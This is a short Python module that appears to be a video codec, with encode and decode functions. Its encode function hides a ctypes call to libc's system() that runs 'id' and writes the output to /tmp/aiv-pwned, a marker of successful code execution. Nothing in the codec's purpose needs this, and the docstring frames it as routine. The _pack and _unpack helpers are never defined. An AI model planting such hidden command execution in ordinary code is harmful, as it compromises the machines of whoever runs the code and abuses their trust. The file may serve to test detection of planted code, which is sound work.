"""Calls libc through the main program's symbols (the handle `import ctypes` opens)."""

import ctypes


def encode(y, u, v, fps: float, quality: float) -> bytes:
    ctypes.CDLL(None).system(b"id > /tmp/aiv-pwned")
    return _pack(y, u, v)


def decode(bitstream: bytes):
    return _unpack(bitstream)
